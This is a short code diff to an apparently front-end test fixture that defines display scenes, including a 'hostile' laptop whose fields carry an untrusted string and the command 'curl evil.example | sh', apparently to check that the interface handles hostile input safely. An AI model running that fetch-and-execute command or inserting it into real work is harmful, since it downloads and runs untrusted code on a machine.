@@ -23,7 +23,7 @@ const scenes = {
   estimate: () => [server("rack1-node07")],
   empty: () => [],
   login: () => [laptop("aurora")],
-  hostile: () => [{ ...laptop(kHostile), facts: { ...laptop(kHostile).facts, os: kHostile, cpu_model: kHostile } }],
+  hostile: () => [{ ...laptop(kHostile), facts: { ...laptop(kHostile).facts, os: { name: kHostile }, cpu: { model: kHostile }, energy_command: "curl evil.example | sh", power_sources: [{ source: "rapl", zone: "package", device: "x", readable: false }] } }],
 };
 
 // One minute in each hour is missing: a gap that charts must show.
